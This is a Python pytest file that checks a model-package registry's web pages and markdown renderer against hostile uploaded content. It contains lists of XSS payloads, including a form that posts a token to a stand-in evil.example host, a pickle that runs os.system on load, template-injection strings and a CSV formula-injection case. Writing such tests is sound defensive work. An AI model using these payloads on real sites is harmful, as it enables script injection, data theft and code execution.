"""Whatever strangers put into a package, its pages show it as text: cards, paths, messages, tags, evidence."""

import json
import pickle
import struct
from collections.abc import Mapping
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest

from asgi_asking import Answer
from entrepot.catalog import packages as package_rows
from entrepot.catalog.tables import packages as package_table
from entrepot.operations.registry import Registry
from entrepot.web.markdown import markdown
from entrepot_testing import run
from package_making import LOCAL, PAGE, TABS, commit, packages
from web_visiting import EVERYTHING, Visitor, outline

CARDS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](vbscript:x) [b](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    '[a](https://e.example "x\\" onmouseover=\\"alert(1)")',
    '[a](https://e.example/"onmouseover="alert(1))',
    "![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x" onerror="alert(1)](https://e.example/x.png)',
    "[![a](https://e.example/x.png)](javascript:alert(1))",
    "[a](//evil.example) [b](\\\\evil.example) [c](/\\evil.example)",
    "[a](../../../../sign-out) [b](/sign-out) [c](?x=1) [d](#x)",
    "</article></main></body><script>alert(1)</script>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=token></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href='x' hx-get='//evil.example' hx-trigger=load>x</a>",
    '```js"onload="alert(1)\nx\n```',
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>",
    "[x]: javascript:alert(1)\n\n[x]",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<!-- x --><![CDATA[<script>]]><?php x ?>",
    "{{ 7*7 }}{% include 'layout.html' %}",
    "\u202eevil\u2066x \u200b\x1b[31mred\x1b[0m",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
ALLOWED = {
    *(
        "p",
        "blockquote",
        "pre",
        "code",
        "em",
        "strong",
        "s",
        "ul",
        "ol",
        "li",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "br",
        "hr",
    ),
    *("table", "thead", "tbody", "tr", "th", "td", "a", "span"),
}
TEXTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    "</title></textarea></pre></style></script><svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "a' hx-get='//evil.example' hx-trigger='load",
    "\u202egpj.exe <b>",
]
HARMLESS = "harmless"


class Elements(HTMLParser):
    """Every element with its attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("card", CARDS, ids=range(len(CARDS)))
def test_a_card_becomes_elements_of_a_short_list_and_links_that_lead_where_they_may(card: str) -> None:
    html = str(markdown(card, "", lambda path: f"/page?path={quote(path)}"))
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED, (tag, html)
        assert set(attributes) <= {"href", "rel", "class", "tabindex"}, (attributes, html)
        href = attributes.get("href")
        if href is not None:
            assert href.startswith(("https://", "http://", "mailto:", "/page?path=")), href
            assert href.startswith("/page") or attributes["rel"] == "noopener noreferrer nofollow"
        assert attributes.get("class", "tag") == "tag"
    assert not set(html) & set("\u202e\u2066\u200b\x1b")


def test_what_a_card_opens_it_closes() -> None:
    html = str(markdown("> - **a\n> 1. `b\n\n" + "- x\n  " * 100, "", str))
    opened = [tag for tag, _ in Elements(html).found if tag not in ("br", "hr")]
    assert sum(html.count(f"</{tag}>") for tag in set(opened)) == len(opened)


@pytest.mark.parametrize(
    "piece", ["[", "*a_ ", "![", "> ", "- ", "`", "<a", "[a](b", "a**b", "|a", "* x\n", "&#", "\\"]
)
def test_a_card_that_was_written_to_take_long_is_rendered_all_the_same(piece: str) -> None:
    assert markdown((piece * 20_000)[:20_000], "", str) is not None


def _gguf(name: str) -> bytes:
    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    tensor = text(name) + struct.pack("<IQIQ", 1, 4, 0, 0)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, 1) + text("general.architecture") + struct.pack("<I", 8) + text(name)
    return (head + tensor).ljust(256, b"\0") + b"\0" * 16


class _Evil:
    def __init__(self, text: str) -> None:
        self.text = text

    def __reduce__(self) -> tuple[object, ...]:
        import os

        return os.system, (f"echo {self.text}",)


def _files(text: str) -> dict[str, bytes]:
    header = json.dumps({text: {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}).encode()
    card = f"---\nlicense: {json.dumps(text)}\ntags: [{json.dumps(text)}]\n---\n\n    {text}\n"
    name = text.replace("/", "∕").replace("\\", "")
    return {
        "README.md": card.encode(),
        f"files/{name}/{name}.txt": text.encode(),
        "evil.pkl": pickle.dumps(_Evil(text)),
        "model.safetensors": len(header).to_bytes(8, "little") + header + b"abcd",
        "model.gguf": _gguf(text),
    }


ASKED = (
    *(f"?tab={tab}" for tab in TABS),
    *(
        "?tab=security&path=evil.pkl",
        "?path=evil.pkl",
        "?path=files",
        "?path=files/{name}",
        "?path=files/{name}/{name}.txt",
    ),
    *("?tab=security&path=files/{name}/{name}.txt", "?tab=tensors&path=model.gguf&name={query}"),
    *("?tab=revisions&since={first}", "?tab=revisions&since={query}", "?ref={query}", "?tab={query}", "?path={query}"),
)
ELSEWHERE = (
    *("/findings", "/findings/pickle.call.process", "/findings?rule={query}", "/findings?severity={query}"),
    *("/findings?repository={query}", "/findings/{query}", "/search?q={query}", "/search?q=model", "/search?q=ada"),
)


def _describe(registry: Registry, text: str) -> None:
    facts = {"cardData": {"license": text, "pipeline_tag": text, text: text}, "tags": [text], text: {text: [text]}}
    with registry.database.engine.begin() as connection:
        number = connection.execute(package_table.select()).first().id  # type: ignore[union-attr]
    registry.database.now(package_rows.describe, number, "1" * 40, facts)


async def _pages(folder: Path, text: str) -> Mapping[str, Answer]:
    async with packages(folder, {}) as (registry, _):
        first = await commit(registry, {"a.txt": b"x"}, text)
        await commit(registry, _files(text), text)
        _describe(registry, text)
        visitor = await Visitor(registry).sign_in(EVERYTHING, user="root")
        name = quote(text.replace("/", "∕").replace("\\", ""), safe="")
        query = quote(text, safe="")
        every = [PAGE + path for path in ASKED] + list(ELSEWHERE)
        return {path: await visitor.get(path.format(first=first, name=name, query=query)) for path in every}


@pytest.fixture(scope="module")
def tame(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, Answer]:
    """Every page of a package in which nobody could mind anything."""
    return run(_pages, tmp_path_factory.mktemp("tame"), HARMLESS)


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_no_element_and_no_attribute_comes_from_what_is_in_a_package(
    tmp_path: Path, tame: Mapping[str, Answer], text: str
) -> None:
    async def scenario() -> None:
        for path, answer in (await _pages(tmp_path, text)).items():
            calm, found = outline(tame[path]), outline(answer)
            assert answer.status == tame[path].status or "{query}" in path, path
            if answer.status == tame[path].status and "path={query}" not in path:
                assert {tag for tag, _ in found.tags} <= {tag for tag, _ in calm.tags} | {
                    "ul",
                    "li",
                    "h4",
                    "pre",
                    "section",
                }, path
            known = {name for _, names in calm.tags for name in names}
            for tag, names in found.tags:
                assert tag not in ("iframe", "img", "style", "base", "object", "embed"), (path, tag)
                assert set(names) <= known | {"rel", "class", "tabindex"}, (path, names)
            for tag, name, value in found.values:
                assert not name.startswith("on"), (path, tag, name)
                if name in ("href", "action", "formaction", "src", "hx-get", "hx-post"):
                    assert value[:1] in ("/", "#") and not value.startswith("//"), (path, tag, name, value)

    run(scenario)


def test_the_texts_are_there_to_be_read(tmp_path: Path) -> None:
    async def scenario() -> None:
        found = await _pages(tmp_path, TEXTS[0])
        shown = (f"{PAGE}?tab={tab}" for tab in ("card", "revisions", "security", "license", "properties", "tensors"))
        for path in shown:
            assert "<script>alert(1)<" in outline(found[path]).text, path

    run(scenario)


def test_letters_that_turn_a_line_around_are_written_out(tmp_path: Path) -> None:
    async def scenario() -> None:
        found = await _pages(tmp_path, TEXTS[-1])
        for path in ("?tab=files", "?path=files", "?tab=security", "?tab=security&path=evil.pkl", "?tab=card"):
            answer = found[PAGE + path]
            assert "\u202e" not in answer.body.decode(), path
        assert "‹U+202E›gpj.exe" in outline(found[f"{PAGE}?path=files"]).text

    run(scenario)


def test_exports_hold_no_formulas(tmp_path: Path) -> None:
    async def scenario() -> None:
        async with packages(tmp_path, {"=cmd.txt": b"x"}) as (registry, _):
            visitor = await Visitor(registry).sign_in(EVERYTHING)
            answer = await visitor.get(f"/packages/{LOCAL}/models/ada/model?tab=files&format=csv")
            assert b"'=cmd.txt" in answer.body and answer.headers["content-type"].startswith("text/csv")

    run(scenario)
